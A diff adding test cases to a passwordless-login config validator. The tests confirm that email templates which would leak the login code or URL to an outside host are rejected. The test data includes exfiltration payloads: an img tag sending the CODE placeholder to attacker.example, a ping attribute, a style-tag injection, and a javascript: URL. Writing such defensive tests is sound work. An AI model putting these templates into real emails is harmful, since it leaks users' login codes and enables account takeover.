@@ -78,6 +78,15 @@ describe('resolvePasswordlessConfig', () => {
     );
   });
 
+  // Issue 18: config templates pass the same markup checker as the admin's, at boot.
+  it.each([
+    [{ email: { html: '<img src="https://attacker.example/?c=<%= CODE %>">' } }, 'email.html', 'inside a tag'],
+    [{ linkUrl: 'https://shop.test/l', email: { locked: { html: '<a href="<%= URL %>" ping="https://a.example">x</a>' } } }, 'email.locked.html', 'ping'],
+    [{ email: { locales: { fr: { html: '<style><%= CODE %></style>' } } } }, 'email.locales.fr.html', 'inside <style>'],
+  ])('refuses a config template whose placeholder a mail client would send away: %j', (user, key, reason) => {
+    expect(() => resolvePasswordlessConfig(user as never, dev)).toThrow(new RegExp(`Invalid users-permissions\\.config\\.passwordless\\.${key.replace(/\./g, '\\.')}: it has .*${reason}`));
+  });
+
   it.each(['shop.test/link', 'javascript:alert(1)', 'https://shop.test/link?x=1', 'https://shop.test/#x'])(
     'refuses linkUrl %j',
     (linkUrl) => {
